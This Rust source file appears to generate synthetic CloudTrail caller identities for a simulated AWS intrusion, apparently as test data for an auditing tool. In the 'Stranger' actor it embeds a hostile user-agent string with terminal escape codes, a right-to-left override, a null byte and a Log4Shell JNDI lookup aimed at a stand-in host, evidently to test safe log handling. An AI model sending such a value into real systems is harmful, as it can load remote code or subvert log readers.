//! Who makes the calls that CloudTrail records.

use jiff::Timestamp;
use serde_json::{Value, json};

use super::incident;
use super::kit::{hash, hex};
use super::world::Realm;

/// Who calls.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Actor {
    /// The stolen session.
    Intruder,
    /// The same role, on an instance where it belongs.
    App,
    /// Another application's role.
    Worker,
    /// The deployment pipeline.
    Deploy,
    /// AWS Backup's role.
    Backup,
    /// AWS Config's own role.
    Recorder,
    /// This program.
    Auditor,
    /// A person at the console.
    Person,
    /// Somebody whose client is named to harm whoever reads the log.
    Stranger,
    /// EC2, asking STS on an instance's behalf.
    Ec2,
}

/// A caller, as records name it.
pub(super) struct Caller {
    pub role: String,
    pub session: String,
    pub access_key: String,
    pub address: String,
    pub agent: String,
    principal: String,
    created: Timestamp,
    pub endpoint: Option<String>,
    pub invoked_by: Option<&'static str>,
}

const SDK: &str =
    "aws-sdk-go-v2/1.39.4 ua/2.1 os/linux lang/go#1.25.3 md/GOOS#linux md/GOARCH#arm64 api/dynamodb#1.52.0";

/// Who made an everyday call.
pub(super) fn caller(realm: &Realm, actor: Actor, luck: u64) -> Caller {
    let (role, session, address, agent) = who(realm, actor, luck);
    let role_id = match actor {
        Actor::Intruder | Actor::App => "AROADEMOAPPORDERS0001".to_owned(),
        Actor::Auditor => realm.auditor_id().to_owned(),
        _ => format!("AROA{}", hex(hash(role), 1, 17).to_uppercase()),
    };
    let access_key = match actor {
        Actor::Intruder => incident::ACCESS_KEY.to_owned(),
        Actor::Auditor => realm.access_key.clone(),
        _ => format!("ASIA{}", hex(hash(&session), 2, 16).to_uppercase()),
    };
    let invoked_by = match actor {
        Actor::Backup => Some("backup.amazonaws.com"),
        Actor::Recorder => Some("config.amazonaws.com"),
        _ => None,
    };
    let inside = matches!(actor, Actor::App | Actor::Worker);
    Caller {
        principal: format!("{role_id}:{session}"),
        role: role.to_owned(),
        session,
        access_key,
        address,
        agent: agent.to_owned(),
        created: incident::SESSION_CREATED,
        endpoint: inside.then(|| realm.gateway_endpoint()),
        invoked_by,
    }
}

/// Role, session, address and user agent.
fn who(realm: &Realm, actor: Actor, luck: u64) -> (&'static str, String, String, &'static str) {
    match actor {
        Actor::Intruder => {
            (incident::ROLE, incident::INSTANCE.to_owned(), incident::ADDRESS.to_owned(), incident::USER_AGENT)
        }
        Actor::App => (incident::ROLE, "i-0def4a5b6c7d8e9f0".to_owned(), "10.20.1.16".to_owned(), SDK),
        Actor::Worker => {
            let role = ["app-carts", "app-billing", "app-search"].get((luck % 3) as usize).copied().unwrap_or("app");
            (role, format!("i-0{}", hex(realm.seed, luck % 6, 16)), format!("10.20.2.{}", 20 + luck % 6), SDK)
        }
        Actor::Deploy => {
            let agent = "aws-cdk/2.1031.0 exec-env/GitHub-Actions";
            ("ci-deploy", format!("deploy-{}", 4000 + luck % 90), "198.51.100.24".to_owned(), agent)
        }
        Actor::Backup => {
            let address = "backup.amazonaws.com".to_owned();
            ("AWSBackupDefaultServiceRole", "AWSBackup-daily".to_owned(), address, "backup.amazonaws.com")
        }
        Actor::Recorder => {
            let address = "config.amazonaws.com".to_owned();
            ("AWSServiceRoleForConfig", "AWSConfig-Describe".to_owned(), address, "config.amazonaws.com")
        }
        Actor::Auditor => {
            let agent = "aws-sdk-rust/1.3.16 ua/2.1 os/linux lang/rust/1.95.0 app/dynakeep";
            (realm.auditor_role(), "dynakeep".to_owned(), "198.51.100.10".to_owned(), agent)
        }
        Actor::Person => {
            let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
            let name = ["alice", "bob", "mallory"].get((luck % 3) as usize).copied().unwrap_or("alice");
            ("admin", name.to_owned(), format!("198.51.100.{}", 30 + luck % 3), agent)
        }
        Actor::Stranger => {
            let agent = "curl/8.16\u{1b}]0;owned\u{7}\u{1b}[2J\u{202e}\u{0} ${jndi:ldap://192.0.2.66/a}";
            ("app-search", "shell".to_owned(), "192.0.2.66".to_owned(), agent)
        }
        Actor::Ec2 => ("ec2", "ec2.amazonaws.com".to_owned(), "ec2.amazonaws.com".to_owned(), "ec2.amazonaws.com"),
    }
}

/// `userIdentity`.
pub(super) fn identity(realm: &Realm, actor: Actor, caller: &Caller) -> Value {
    if actor == Actor::Ec2 {
        return json!({ "type": "AWSService", "invokedBy": "ec2.amazonaws.com" });
    }
    let path = if actor == Actor::Recorder { "aws-service-role/config.amazonaws.com/" } else { "" };
    let mut identity = json!({
        "type": "AssumedRole",
        "principalId": caller.principal,
        "arn": format!("arn:aws:sts::{}:assumed-role/{}/{}", realm.account, caller.role, caller.session),
        "accountId": realm.account,
        "accessKeyId": caller.access_key,
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": caller.principal.split(':').next(),
                "arn": format!("arn:aws:iam::{}:role/{path}{}", realm.account, caller.role),
                "accountId": realm.account,
                "userName": caller.role,
            },
            "attributes": {
                "creationDate": format!("{:.0}", caller.created),
                "mfaAuthenticated": if actor == Actor::Person { "true" } else { "false" },
            },
        },
    });
    if let Some(fields) = identity.as_object_mut() {
        if let Some(service) = caller.invoked_by {
            fields.insert("invokedBy".to_owned(), json!(service));
        }
        if matches!(actor, Actor::App | Actor::Intruder)
            && let Some(session) = fields.get_mut("sessionContext").and_then(Value::as_object_mut)
        {
            // Credentials that an instance's metadata service handed out.
            session.insert("ec2RoleDelivery".to_owned(), json!("2.0"));
        }
    }
    identity
}
